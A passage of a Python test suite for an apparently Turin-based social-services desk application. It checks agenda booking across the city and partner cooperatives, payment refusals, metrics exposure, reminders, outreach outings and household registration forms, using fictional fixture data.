) -> None:
    booked = agenda_services(desk.services)
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    form = {"day": tomorrow, "time": "10:00", "minutes": "30", "party": "p-1", "purpose": "plan_review"}
    await desk.as_operator(MARIA)
    # One answer whether the username exists elsewhere or not at all: the agenda does not tell which usernames other
    # cities have (an outside review).
    for operator, said in (
        ("nessuna", "«nessuna» non è un operatore del suo Comune o del suo ente"),
        ("sara", "«sara» non è un operatore del suo Comune o del suo ente"),  # Trieste's
        ("rpd", "«rpd» non è un operatore del suo Comune o del suo ente"),  # the DPO keeps no agenda
    ):
        r = await desk.client.post("/agenda", data=form | {"csrf": "csrf-maria", "operator": operator})
        assert r.status_code == 422, (operator, r.text)
        assert 'id="operator-error"' in r.text and said in text_of(r.text), text_of(r.text)
    await desk.as_operator(LUCA)  # a cooperative books for its own operators only
    r = await desk.client.post("/agenda", data=form | {"csrf": "csrf-luca", "operator": "giulia"})
    assert r.status_code == 422 and "«giulia» non è un operatore del suo Comune o del suo ente" in text_of(r.text)
    assert booked == []
    r = await desk.client.post("/agenda", data=form | {"csrf": "csrf-luca", "operator": "luca"})
    assert r.status_code == 303
    await desk.as_operator(MARIA)  # the city's staff book for a colleague or the city's cooperatives
    r = await desk.client.post("/agenda", data=form | {"csrf": "csrf-maria", "operator": "giulia"})
    assert r.status_code == 303
    r = await desk.client.post("/agenda", data=form | {"csrf": "csrf-maria", "operator": "luca", "time": "11:00"})
    assert r.status_code == 303
    assert [b["operator"] for b in booked] == ["luca", "giulia", "luca"]
    # Whose operator each is (intake's `operator_partner`): a cooperative's operator is in its agenda whoever books
    # her (her bookings clash with the cooperative's own), a colleague in the city's.
    assert [b.get("operator_partner") for b in booked] == ["coop-aurora", None, "coop-aurora"]


async def test_the_agenda_names_operators_and_units(desk: Desk) -> None:
    tomorrow = clock.today() + timedelta(days=1)
    starts = f"{tomorrow.isoformat()}T09:00:00+00:00"
    desk.services.answers |= {
        ("intake", "GET", "/appointments"): [
            {"appointment_id": "apt-1", "agenda": "mobile_unit", "operator": "giulia", "unit_id": "unit-7f3a",
             "person_id": "p-1", "street_id": None, "purpose": "plan_review", "starts_at": starts,
             "ends_at": f"{tomorrow.isoformat()}T09:30:00+00:00", "status": "booked", "outcome": None,
             "booked_by": "desk.giulia"}],
        ("intake", "GET", "/mobile-units"): [{"unit_id": "unit-7f3a", "name": "Unità Nord", "area": "nord",
                                              "vehicle": None, "team_size": 2, "partner": None}],
    }  # fmt: skip
    await desk.as_operator(LUCA)
    text = text_of((await desk.client.get(f"/agenda?day={tomorrow.isoformat()}")).text)
    assert "Giulia Verdi (Unità Nord)" in text, text
    assert "Fissato da Giulia Verdi" in text, text


async def test_the_agenda_says_whose_operator_each_appointment_is(desk: Desk) -> None:
    """Federation: an appointment's operator is a value of its party's own (a cooperative's system may call its
    operator "giulia", the code of a city's operator). The city's agenda named a cooperative's appointment of its
    "giulia" as the city's Giulia Verdi's. Each row now says whose operator it is, the city's or the cooperative's
    by name, and names a desk operator only within her own party; in Italian and in English."""
    tomorrow = clock.today() + timedelta(days=1)

    def appointment(aid: str, operator: str, partner: str | None, hour: int) -> dict[str, Any]:
        at = f"{tomorrow.isoformat()}T{hour:02}"
        return {"appointment_id": aid, "agenda": "desk", "operator": operator, "unit_id": None, "person_id": "p-1",
                "street_id": None, "purpose": "plan_review", "starts_at": f"{at}:00:00+00:00",
                "ends_at": f"{at}:30:00+00:00", "status": "booked", "outcome": None,
                "booked_by": partner or "desk.maria", "operator_partner": partner}  # fmt: skip

    desk.services.answers |= {
        ("intake", "GET", "/appointments"): [
            appointment("apt-1", "giulia", None, 8),
            appointment("apt-2", "giulia", "coop-aurora", 9),
            appointment("apt-3", "luca", "coop-aurora", 10),
        ],
        ("intake", "GET", "/mobile-units"): [],
        ("intake", "GET", "/partners"): [{"partner_id": "coop-aurora", "name": "Cooperativa Aurora"}],
    }
    await desk.as_operator(MARIA)
    for lang, city, coop in (
        ("it", "operatore del Comune", "operatore di Cooperativa Aurora"),
        ("en", "the city's operator", "operator of Cooperativa Aurora"),
    ):
        page = (await desk.client.get(f"/agenda?day={tomorrow.isoformat()}&lang={lang}")).text
        rows = [text_of(row) for row in re.findall(r"<tr>.*?</tr>", page, re.S)[1:]]
        assert len(rows) == 3, rows
        assert "Giulia Verdi" in rows[0] and city in rows[0], rows[0]
        assert "Giulia Verdi" not in rows[1] and "giulia" in rows[1] and coop in rows[1], rows[1]
        assert "Luca Bianchi" in rows[2] and coop in rows[2], rows[2]


async def test_a_budget_refusal_reads_in_euros_not_cents(desk: Desk) -> None:
    problem = {
        "status": 409,
        "field": "amount_cents",
        "reason": "over budget: 12000 cents asked, 5000 available on the line",
    }
    desk.services.answers |= {
        ("payments", "GET", "/contribution-requests"): [
            {"request_id": "r-1", "case_id": "c-8e2b7d41a9f0", "kind": "rent", "amount_cents": 12000,
             "requested_by": "desk.maria", "status": "requested"}],
        ("payments", "POST", "/contribution-requests/r-1/approval"): httpx.Response(409, json=problem),
        ("intake", "GET", "/cases/c-8e2b7d41a9f0"): A_HOUSING_CASE,
    }  # fmt: skip
    await desk.as_operator(GIULIA)
    r = await desk.client.post("/approvals/r-1", data={"csrf": "csrf-giulia"})
    text = text_of(r.text)
    assert "richiesti 120,00 €, disponibili 50,00 €" in text, text
    assert "12000" not in text
    # the pending request: its case by area and date, who asked by name
    assert "Inclusione abitativa, aperta il 10 gen 2026" in text and "Maria Rossi" in text, text
    r = await desk.client.post("/approvals/r-1?lang=en", data={"csrf": "csrf-giulia"})
    assert "over budget: €120.00 asked, €50.00 available on the line" in text_of(r.text)


async def test_the_desk_serves_prometheus_metrics_like_the_services(desk: Desk) -> None:
    desk.services.answers[("intake", "POST", "/persons/search")] = []
    await desk.as_operator(MARIA)
    assert (await desk.client.post("/", data={"csrf": "csrf-maria", "name": "amina"})).status_code == 200  # intake
    desk.client.cookies.clear()  # scraped without a session, as the services' are
    desk.client.cookies.set("desk_login_csrf", "t")
    r = await desk.client.post("/login", data={"username": "maria", "password": "sbagliata", "csrf": "t"})
    assert r.status_code == 401
    r = await desk.client.get("/metrics")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/plain")
    assert 'lgnet_desk_logins_total{outcome="refused"}' in r.text, r.text
    assert 'lgnet_desk_service_calls_total{outcome="ok",service="intake"}' in r.text, r.text
    # Through the reverse proxy (the Helm chart's Ingress routes the whole host to the desk): not served, as for a
    # page that does not exist — the scraper reaches the pod's port directly.
    for header in ({"X-Forwarded-For": "203.0.113.5"}, {"Forwarded": "for=203.0.113.5;proto=https"}):
        proxied = await desk.client.get("/metrics", headers=header)
        assert proxied.status_code == 404 and "lgnet_desk" not in proxied.text, header


A_HOUSING_CASE = {"case_id": "c-8e2b7d41a9f0", "action_area": "housing_inclusion", "opened_on": "2026-01-10",
                  "partner": "coop-aurora", "household_id": "h-5f1c0a9e7b2d"}  # fmt: skip


async def test_the_to_do_list_names_the_case_and_the_operator(desk: Desk) -> None:
    starts = f"{(clock.today() + timedelta(days=1)).isoformat()}T09:00:00+00:00"
    desk.services.answers |= {
        ("housing", "GET", "/reminders"): [
            {"kind": "match_stalled", "case_id": "c-8e2b7d41a9f0", "waiting_days": 16, "step": "proposed",
             "since": "2026-01-20"}],
        ("intake", "GET", "/appointments/reminders/open"): [
            {"kind": "appointment_reminder_due", "case_id": None, "appointment_id": "apt-1", "operator": "giulia",
             "purpose": "plan_review", "starts_at": starts, "since": clock.today().isoformat(), "waiting_days": 0}],
        ("intake", "GET", "/cases/c-8e2b7d41a9f0"): A_HOUSING_CASE,
    }  # fmt: skip
    await desk.as_operator(LUCA)
    page = await desk.client.get("/todo")
    text = text_of(page.text)
    assert "Inclusione abitativa, aperta il 10 gen 2026" in text, text
    assert '<small class="id">c-8e2b7d41a9f0</small>' in page.text
    assert "(nell'agenda di Giulia Verdi)" in text, text  # the operator as the agenda's owner, not who comes


async def test_a_hold_ending_soon_is_on_the_to_do_list_with_its_reason_and_its_day(desk: Desk) -> None:
    """Housing reminds of a hold ending within a week (the household is back on the waiting list then): the list
    says it in Italian, with its reason and its last day, and leads to the household's housing page."""
    until = clock.today() + timedelta(days=5)
    desk.services.answers |= {
        ("housing", "GET", "/reminders"): [
            {"kind": "hold_ending", "household_id": "h-5f1c0a9e7b2d", "case_id": "c-8e2b7d41a9f0",
             "case_partner": "coop-aurora", "reason": "hospitalised", "until": until.isoformat(), "waiting_days": 0}],
        ("intake", "GET", "/appointments/reminders/open"): [],
        ("intake", "GET", "/cases/c-8e2b7d41a9f0"): A_HOUSING_CASE,
    }  # fmt: skip
    await desk.as_operator(LUCA)
    page = await desk.client.get("/todo")
    assert page.status_code == 200, page.text
    text = text_of(page.text)
    assert "Sospensione (Ricovero in ospedale) fino al" in text, text
    assert "poi il nucleo torna in lista d'attesa; verifichi che sia possibile" in text, text
    assert 'href="/households/h-5f1c0a9e7b2d/housing"' in page.text


async def test_a_reminder_of_a_kind_the_desk_does_not_know_is_not_read_as_a_stalled_match(desk: Desk) -> None:
    """A service newer than the desk raises a reminder of a new kind: the list said "Inserimento senza contratto
    firmato" of it (every kind it did not know fell to the stalled match's last step). Now it says what it knows: a
    reminder of the case, its service's own kind named, and the way to the case."""
    desk.services.answers |= {
        ("housing", "GET", "/reminders"): [
            {"kind": "lease_ending", "case_id": "c-8e2b7d41a9f0", "since": "2026-11-20", "waiting_days": 3}],
        ("intake", "GET", "/appointments/reminders/open"): [],
        ("intake", "GET", "/cases/c-8e2b7d41a9f0"): A_HOUSING_CASE,
    }  # fmt: skip
    await desk.as_operator(LUCA)
    page = await desk.client.get("/todo")
    text = text_of(page.text)
    assert page.status_code == 200 and "contratto firmato" not in text and "Proposta" not in text, text
    assert "Promemoria della pratica (lease_ending)" in text and "20 nov 2026" in text, text
    assert 'href="/?case_id=c-8e2b7d41a9f0"' in page.text


async def test_an_outing_names_its_operators_and_its_contacts_by_what_they_are(desk: Desk) -> None:
    today = clock.today().isoformat()
    desk.services.answers[("intake", "GET", "/outings/out-1")] = {
        "outing_id": "out-1", "unit_id": "unit-7f3a", "on_date": today, "start_time": "20:00:00",
        "end_time": "23:30:00", "places": ["Porta Nuova"], "staff": ["luca", "maria"],
        "contacts": [{"contact_id": "ct-4c2e", "street_id": "sp-91ab", "has_nickname": True, "place": "Porta Nuova",
                      "age_band": "18_29", "sex": "male", "needs_observed": [], "services_offered": [],
                      "contacted_on": today, "first_contact_on": today, "person_id": None, "linked_on": None}],
    }  # fmt: skip
    await desk.as_operator(LUCA)
    page = await desk.client.get("/outreach/outings/out-1")
    text = text_of(page.text)
    assert "Luca Bianchi, Maria Rossi" in text, text
    # the contact's id stays (the forms ask for it: same person as, booking) but it is not the link's whole text
    assert "Persona incontrata in strada" in text and '<small class="id">ct-4c2e</small>' in page.text, text
    # "(soprannome)" beside the contact read as if the nickname were "soprannome": it says one is recorded, and where
    assert "(soprannome registrato, visibile nella sua pagina)" in text and "(soprannome)" not in text, text


async def test_a_rent_request_names_its_period_and_the_cartella_shows_it(desk: Desk) -> None:
    """Payments requires the period of a rent or utilities request (a month's rent asked twice is refused); the desk's
    form had no period, so every rent request from the desk would have been refused."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    sent: list[dict[str, Any]] = []

    def request_contribution(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        sent.append(body)
        if body["period_from"] == "2026-11-16":
            reason = (
                "the household's rent request r-1 (case c-1) already pays 2026-11-01 to 2026-11-30:"
                " a period is paid once"
            )
            return httpx.Response(409, json={"status": 409, "field": "period_from", "reason": reason})
        return httpx.Response(201, json={"request_id": "r-2", "status": "requested"})

    desk.services.answers[("payments", "POST", "/contribution-requests")] = request_contribution
    desk.services.answers[("payments", "GET", "/contribution-requests")] = [
        {"request_id": "r-1", "case_id": "c-8e2b7d41a9f0", "kind": "rent", "amount_cents": 45000,
         "period_from": "2026-11-01", "period_to": "2026-11-30", "requested_by": "desk.maria", "status": "requested"}
    ]  # fmt: skip
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    assert 'name="period_from"' in page.text and 'name="period_to"' in page.text
    # A voucher is issued, not requested: payments refuses the kind (an outside test chose it and was refused).
    assert '<option value="deposit"' in page.text and '<option value="voucher"' not in page.text
    assert "dal 1 nov 2026 al 30 nov 2026" in text_of(page.text), text_of(page.text)
    form = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "kind": "rent", "amount": "450,00"}
    r = await desk.client.post("/persons/p-1/contributions", data={**form, "period_from": "2026-12-01",
                                                                      "period_to": "2026-12-31"})  # fmt: skip
    assert r.status_code in (200, 303), r.text
    assert (sent[-1]["period_from"], sent[-1]["period_to"]) == ("2026-12-01", "2026-12-31")
    r = await desk.client.post("/persons/p-1/contributions", data={**form, "period_from": "2026-11-16",
                                                                      "period_to": "2026-12-15"})  # fmt: skip
    assert r.status_code == 422, r.text  # said at the period's field, on the cartella
    text = text_of(r.text)
    assert "un periodo si paga una volta sola" in text and "dal 1 nov 2026 al 30 nov 2026" in text, text
    # the form keeps what was typed: the kind and the period (it reset the kind to the first one)
    assert '<option value="rent" selected>' in r.text and 'value="16/11/2026"' in r.text  # a day as typed: gg/mm/aaaa


async def test_partners_are_named_and_chosen_from_the_citys_list(desk: Desk) -> None:
    """A social worker typed a partner's id ("coop-aurora") to assign or transfer a case, and read ids where the
    cooperative's name belongs."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    desk.services.answers[("intake", "GET", "/partners")] = [
        {"partner_id": "coop-aurora", "name": "Cooperativa Aurora"},
        {"partner_id": "coop-borgo", "name": "Associazione Borgo Dora"},
    ]
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    text = text_of(page.text)
    assert "Ente partner Cooperativa Aurora" in text, text  # the case's partner, by name
    for field in ("partner", "to_partner"):
        assert f'<select id="{field}" name="{field}"' in page.text, field
    assert '<option value="coop-borgo">Associazione Borgo Dora</option>' in page.text
    await desk.as_operator(LUCA)  # a cooperative's operator: its own organisation by name in the header
    assert "Luca Bianchi · personale dell'ente partner, Torino, Cooperativa Aurora" in text_of(
        (await desk.client.get("/persons/p-1")).text
    )


async def test_the_cartella_is_read_when_housing_or_payments_is_away(desk: Desk) -> None:
    """A social worker reads the cartella (intake's) while housing or payments does not answer: the page says which
    part is missing instead of failing as a whole (a 500 before)."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)

    def away(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("connection refused", request=request)

    desk.services.answers[("housing", "GET", "/proposals")] = away
    desk.services.answers[("payments", "GET", "/contribution-requests")] = away
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    assert page.status_code == 200, page.text
    text = text_of(page.text)
    assert "Cartella sociale: Amina Okafor" in text and "Colloquio" in text, text
    assert "Al momento non è possibile leggere alcune parti; riprovi più tardi: alloggi, pagamenti" in text, text


async def test_a_username_that_is_also_a_partners_id_names_each_where_it_belongs(desk: Desk) -> None:
    """From a review: one map held operators by username, staff by service actor and partners by id, so a staff
    operator whose username is a cooperative's id ("coop-aurora") named that cooperative's cases after themself (or
    the cooperative named the person in the agenda). Usernames and actors are now looked up apart."""
    tomorrow = clock.today() + timedelta(days=1)
    desk.services.answers |= {
        ("intake", "GET", "/partners"): [{"partner_id": "coop-aurora", "name": "Cooperativa Aurora"}],
        ("intake", "GET", "/appointments"): [
            {"appointment_id": "apt-1", "agenda": "case", "operator": "coop-aurora", "unit_id": None,
             "person_id": "p-1", "street_id": None, "purpose": "plan_review",
             "starts_at": f"{tomorrow.isoformat()}T09:00:00+00:00",
             "ends_at": f"{tomorrow.isoformat()}T09:30:00+00:00", "status": "booked", "outcome": None,
             "booked_by": "coop-aurora"}],
        ("intake", "GET", "/mobile-units"): [{"unit_id": "unit-7f3a", "name": "Unità Nord", "area": "nord",
                                              "vehicle": None, "team_size": 2, "partner": "coop-aurora"}],
    }  # fmt: skip
    anna = Operator(
        "coop-aurora", "Anna Sola", OperatorRole.STAFF, "torino", None, "desk.op-a5017a000001", "coop-aurora"
    )
    await desk.as_operator(anna)
    await desk.as_operator(MARIA)
    text = text_of((await desk.client.get(f"/agenda?day={tomorrow.isoformat()}")).text)
    assert "Anna Sola" in text, text  # the operator of the appointment is the person with that username
    units = text_of((await desk.client.get("/outreach/units")).text)
    assert "Cooperativa Aurora" in units and "Anna Sola" not in units, units


# ------------------------------------------------------------ an outside tester's findings (round 2)


def outreach_services(services: FakeServices) -> list[dict[str, Any]]:
    """Intake's outreach API with one unit of the city; the outings posted are kept."""
    posted: list[dict[str, Any]] = []

    def record(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        posted.append(body)
        if body["on"] > clock.today().isoformat():
            return httpx.Response(422, json={"status": 422, "field": "on", "reason": f"{body['on']} is in the future"})
        return httpx.Response(201, json=body)

    services.answers |= {
        ("intake", "GET", "/mobile-units"): [{"unit_id": "unit-7f3a", "name": "Unità Nord", "area": "nord",
                                              "vehicle": None, "team_size": 2, "partner": None}],
        ("intake", "GET", "/outings"): [],
        ("intake", "POST", "/outings"): record,
    }  # fmt: skip
    return posted


async def test_an_operator_added_since_codes_is_sent_and_named_by_her_code(desk: Desk) -> None:
    """A review: the desk sent an operator's username (usually her name) as an appointment's operator and an outing's
    staff, in clear in intake's facts. One added since migration desk-9 is sent as the code the desk drew for her
    (typed by username, hers or a colleague's of the cooperative); one added before keeps her username as her code.
    The agenda, the outing and the to-do list name both forms; intake's refusal naming a drawn code says her name."""
    ines = Operator(
        "ines.conti", "Ines Conti", OperatorRole.STAFF, "torino", None, "desk.op-1e5c0a000001", "op-1e5c0a000002"
    )
    piero = Operator("piero.vela", "Piero Vela", OperatorRole.PARTNER, "torino", "coop-aurora", code="op-9e40a0000003")
    await desk.as_operator(piero)
    await desk.as_operator(LUCA)
    booked = agenda_services(desk.services)
    posted = outreach_services(desk.services)
    tomorrow, today = (clock.today() + timedelta(days=1)).isoformat(), clock.today().isoformat()
    form = {"day": tomorrow, "time": "10:00", "minutes": "30", "party": "p-1", "purpose": "plan_review"}
    await desk.as_operator(ines)
    for operator in ("", "piero.vela", "maria"):  # herself (left blank), a cooperative's new operator, an old one
        r = await desk.client.post("/agenda", data=form | {"csrf": "csrf-ines.conti", "operator": operator})
        assert r.status_code == 303, text_of(r.text)
    assert [b["operator"] for b in booked] == ["op-1e5c0a000002", "op-9e40a0000003", "maria"]
    outing = {"unit_id": "unit-7f3a", "on": today, "start_time": "20:00", "end_time": "23:00", "places": "Porta Nuova"}
    r = await desk.client.post("/outreach/outings", data=outing | {"csrf": "csrf-ines.conti", "staff": ""})
    assert r.status_code == 303, text_of(r.text)
    r = await desk.client.post(
        "/outreach/outings", data=outing | {"csrf": "csrf-ines.conti", "staff": "ines.conti\npiero.vela\nluca"}
    )
    assert r.status_code == 303, text_of(r.text)
    assert [o["staff"] for o in posted] == [["op-1e5c0a000002"], ["op-1e5c0a000002", "op-9e40a0000003", "luca"]]
    sent = b"".join(r.content for r in desk.services.requests)
    assert b"ines.conti" not in sent and b"piero.vela" not in sent

    assert [b.get("operator_partner") for b in booked] == [None, "coop-aurora", None]  # Piero: his cooperative's

    def appointment(aid: str, operator: str, partner: str | None = None) -> dict[str, Any]:
        return {"appointment_id": aid, "agenda": "desk", "operator": operator, "unit_id": None, "person_id": None,
                "street_id": "st-1", "purpose": "plan_review", "starts_at": f"{tomorrow}T09:00:00+00:00",
                "ends_at": f"{tomorrow}T09:30:00+00:00", "status": "booked", "outcome": None,
                "booked_by": "desk.maria", "operator_partner": partner}  # fmt: skip

    desk.services.answers |= {
        ("intake", "GET", "/appointments"): [
            appointment("apt-1", "op-9e40a0000003", "coop-aurora"),
            appointment("apt-2", "maria"),
        ],
        ("intake", "GET", "/outings/out-1"): {"outing_id": "out-1", "unit_id": "unit-7f3a", "on": today,
                                              "start_time": "20:00:00", "end_time": "23:00:00",
                                              "places": ["Porta Nuova"], "staff": ["op-1e5c0a000002", "luca"],
                                              "contacts": []},
        ("intake", "GET", "/appointments/reminders/open"): [
            {"kind": "appointment_reminder_due", "case_id": None, "appointment_id": "apt-1",
             "operator": "op-9e40a0000003", "operator_partner": "coop-aurora", "person_id": None,
             "street_id": "st-1", "purpose": "plan_review", "starts_at": f"{tomorrow}T09:00:00+00:00",
             "due_on": today, "since": today}],
    }  # fmt: skip
    agenda = text_of((await desk.client.get(f"/agenda?day={tomorrow}")).text)
    assert "Piero Vela" in agenda and "Maria Rossi" in agenda and "op-9e40a0000003" not in agenda, agenda
    shown = await desk.client.get("/outreach/outings/out-1")
    assert shown.status_code == 200 and "Ines Conti, Luca Bianchi" in text_of(shown.text), text_of(shown.text)
    todo = text_of((await desk.client.get("/todo")).text)
    assert "Piero Vela" in todo and "op-9e40a0000003" not in todo, todo
    clash = {"status": 409, "field": "starts_at", "reason": "operator op-9e40a0000003 is already booked at that time"}
    desk.services.answers[("intake", "POST", "/appointments")] = httpx.Response(409, json=clash)
    r = await desk.client.post("/agenda", data=form | {"csrf": "csrf-ines.conti", "operator": "piero.vela"})
    assert r.status_code == 422 and "Piero Vela ha già un appuntamento" in text_of(r.text), text_of(r.text)
    assert "op-9e40a0000003" not in r.text


async def test_a_refused_outing_is_said_at_its_field_and_the_form_kept(desk: Desk) -> None:
    """A 500 (the outings page took `errors` twice) on any outing intake refused, and what was typed was lost."""
    outreach_services(desk.services)
    await desk.as_operator(MARIA)
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    form = {"csrf": "csrf-maria", "unit_id": "unit-7f3a", "on": tomorrow, "start_time": "20:00", "end_time": "23:00",
            "places": "Porta Nuova\nValentino", "staff": "maria"}  # fmt: skip
    r = await desk.client.post("/outreach/outings", data=form)
    assert r.status_code == 422, r.text
    assert 'id="on-error"' in r.text and "è nel futuro" in text_of(r.text), text_of(r.text)
    assert f'value="{typed_day(tomorrow)}"' in r.text and "Porta Nuova\nValentino</textarea>" in r.text


async def test_consents_are_not_pre_ticked_and_a_refused_registration_keeps_the_operators_choice(desk: Desk) -> None:
    """A consent is an explicit choice: both boxes came ticked on a new form, and ticked again after a refusal even
    when the operator had left the sharing consent unticked."""

    def register(request: httpx.Request) -> httpx.Response:
        problem = {"status": 422, "field": "nationality", "reason": "'XX' is not an ISO 3166-1 alpha-2 country code"}
        return httpx.Response(422, json=problem)

    desk.services.answers[("intake", "POST", "/persons")] = register
    await desk.as_operator(MARIA)
    blank = await desk.client.get("/persons/new")
    for box in ("consent_service", "consent_partner_sharing"):
        assert re.search(rf'<input type="checkbox" id="{box}" name="{box}"\s*>', blank.text), box
    form = {"csrf": "csrf-maria", "m0_given_name": "Amina", "m0_family_name": "Okafor", "m0_birth_date": "1985-03-14",
            "m0_sex": "female", "m0_nationality": "XX", "consent_service": "on"}  # fmt: skip
    r = await desk.client.post("/persons/new", data=form)
    assert r.status_code == 422, r.text
    assert re.search(r'id="consent_service" name="consent_service" checked', r.text), r.text
    assert re.search(r'id="consent_partner_sharing" name="consent_partner_sharing"\s*>', r.text), r.text


async def test_the_registration_takes_a_members_phone_and_address_and_says_a_refusal_of_them_there(desk: Desk) -> None:
    """The registration took no phone or address: they were entered afterwards on the cartella. Each member's are
    sent with her registration; intake's refusal of one is said at its field, what was typed kept."""
    sent: list[dict[str, Any]] = []

    def register(request: httpx.Request) -> httpx.Response:
        sent.append(json.loads(request.content))
        problem = {"status": 422, "field": "identity.address", "reason": "String should have at most 200 characters"}
        return httpx.Response(422, json=problem)

    desk.services.answers[("intake", "POST", "/persons")] = register
    desk.services.answers[("intake", "POST", "/persons/search")] = []
    await desk.as_operator(MARIA)
    assert 'id="m0_phone"' in (await desk.client.get("/persons/new")).text
    form = {"csrf": "csrf-maria", "m0_given_name": "Amina", "m0_family_name": "Okafor", "m0_birth_date": "1985-03-14",
            "m0_sex": "female", "m0_nationality": "NG", "m0_phone": "333 123 4567",
            "m0_address": "Via Roma 1, Torino"}  # fmt: skip
    r = await desk.client.post("/persons/new", data=form)
    assert r.status_code == 422 and sent[0]["identity"]["address"] == "Via Roma 1, Torino", r.text
    assert sent[0]["identity"]["phone"] == "333 123 4567"
    assert 'id="m0_address-error"' in r.text and 'value="333 123 4567"' in r.text, r.text


async def test_every_fault_of_every_member_is_said_in_one_round_and_nobody_is_registered(
    desk: Desk, browser: Any
) -> None:
    """From an outside test: a household with birth dates 31/02/1988 and 12/13/2015, one born in 2030, the
    nationality "Senegall" and the phone "abc" took three rounds (the impossible days; the phone and the country;
    the future), the members accepted in the earlier rounds already registered; "abcde" was registered as a phone.
    One round now, every fault at its field in Italian, nobody registered (the page passing axe-core)."""

    def check(request: httpx.Request) -> httpx.Response:
        if json.loads(request.content).get("birth_date", "") > clock.today().isoformat():
            return httpx.Response(422, json={"status": 422, "field": "birth_date", "reason": "is in the future"})
        return httpx.Response(200, json={})

    desk.services.answers[("intake", "POST", "/persons/check")] = check
    desk.services.answers[("intake", "POST", "/persons/search")] = []
    await desk.as_operator(MARIA)
    new = (await desk.client.get("/persons/new")).text
    form = {"csrf": "csrf-maria", "form_key": form_key_of(new, "/persons/new"),
            "m0_given_name": "Fatou", "m0_family_name": "Sarr", "m0_birth_date": "31/02/1988", "m0_sex": "female",
            "m0_nationality": "Senegall",
            "m1_given_name": "Awa", "m1_family_name": "Sarr", "m1_birth_date": "12/13/2015", "m1_sex": "female",
            "m1_nationality": "SN", "m1_phone": "abc",
            "m2_given_name": "Modou", "m2_family_name": "Sarr", "m2_birth_date": "01/03/2030", "m2_sex": "male",
            "m2_nationality": "SN",
            "m3_given_name": "Ibou", "m3_family_name": "Sarr", "m3_birth_date": "01/03/2019", "m3_sex": "male",
            "m3_nationality": "SN", "m3_phone": "abcde", "consent_service": "on"}  # fmt: skip
    r = await desk.client.post("/persons/new", data=form)
    assert r.status_code == 422, r.text
    errors = dict(re.findall(r'id="(m\d_\w+)-error">([^<]*)<', r.text))
    at_fault = {"m0_birth_date", "m0_nationality", "m1_birth_date", "m1_phone", "m2_birth_date", "m3_phone"}
    assert set(errors) == at_fault
    assert errors["m2_birth_date"] == "è nel futuro" and errors["m1_phone"].startswith("non è un numero di telefono")
    assert errors["m0_nationality"].startswith("nessun paese con questo nome"), errors
    assert ("intake", "POST", "/persons") not in desk.services.calls  # nobody registered
    assert "m0_person_id" not in r.text and 'value="abcde"' in r.text  # nobody kept as registered; typed kept
    assert await axe_problems(desk, browser, {"register-refused": r.text}) == []


async def test_a_person_on_file_is_put_in_the_household_being_registered(desk: Desk, browser: Any) -> None:
    """From an outside test: a mother registered without a household (a half-finished registration) could not be
    registered again with her daughter ("una persona con questo nome e questa data di nascita è già registrata") and
    the only way on was "È un'altra persona", a deliberate duplicate. The hint now offers to use the person on file
    in the household: ticked, she is neither looked up nor registered again, and the household is formed with her."""
    on_file = {"person_id": "p-aissatou", "birth_date": "1990-03-12", "erased": False,
               "identity": {"given_name": "Aissatou", "family_name": "Diallo"}}  # fmt: skip

    def search(request: httpx.Request) -> httpx.Response:
        terms = json.loads(request.content)
        return httpx.Response(200, json=[on_file] if "aissatou" in (terms.get("name") or "").lower() else [])

    households: list[dict[str, Any]] = []
    consents: list[dict[str, Any]] = []
    desk.services.answers |= {
        ("intake", "POST", "/persons/search"): search,
        ("intake", "POST", "/persons"): {"person_id": "p-new", "same_as": None},
        ("intake", "POST", "/consents"): kept_in(consents),
        ("intake", "POST", "/households"): kept_in(households),
    }
    await desk.as_operator(MARIA)
    new = (await desk.client.get("/persons/new")).text
    form = {"csrf": "csrf-maria", "form_key": form_key_of(new, "/persons/new"), "m0_given_name": "Aissatou",
            "m0_family_name": "Diallo", "m0_birth_date": "12/03/1990", "m0_sex": "female", "m0_nationality": "SN",
            "m1_given_name": "Mariama", "m1_family_name": "Diallo", "m1_birth_date": "04/05/2015", "m1_sex": "female",
            "m1_nationality": "SN", "consent_service": "on"}  # fmt: skip
    r = await desk.client.post("/persons/new", data=form)
    assert r.status_code == 422
    assert '<input type="checkbox" id="m0_use_on_file" name="m0_use_on_file" value="p-aissatou">' in r.text, r.text
    assert "Usi nel nucleo questa persona già registrata" in text_of(r.text)
    assert await axe_problems(desk, browser, {"register-on-file": r.text}) == []
    r = await desk.client.post("/persons/new", data=form | {"m0_use_on_file": "p-aissatou"})
    assert r.status_code == 303, r.text
    [household] = households
    assert household["reference_person_id"] == "p-aissatou"
    assert household["member_ids"][0] == "p-aissatou" and len(household["member_ids"]) == 2
    assert [c["person_id"] for c in consents] == [household["member_ids"][1]]  # hers are on file already
    registered = [json.loads(q.content) for q in desk.services.requests if q.url.path == "/persons"]
    assert [p["identity"]["given_name"] for p in registered] == ["Mariama"]


async def test_a_person_in_no_household_is_put_in_one_from_her_cartella(desk: Desk, browser: Any) -> None:
    """From an outside test: a person left without a household by a half-finished registration (an 11-year-old
    among them) could never be put in one: her cartella said "La persona non fa parte di nessun nucleo: per aprire
    una pratica serve un nucleo." and offered nothing. It now leads to the registration form with her in it, as the
    household's reference person or as a member, registered already (not sent again), beside new or filed persons."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    record = a_record(today, today) | {"households": [], "cases": []}
    households: list[dict[str, Any]] = []
    desk.services.answers |= {
        ("intake", "GET", "/persons/p-1/record"): record,
        ("intake", "GET", "/persons/p-1"): record["person"],
        ("intake", "POST", "/persons/search"): [],
        ("intake", "POST", "/persons"): {"person_id": "p-new", "same_as": None},
        ("intake", "POST", "/consents"): {},
        ("intake", "POST", "/households"): kept_in(households),
    }
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1?lang=it")
    assert page.status_code == 200, page.text
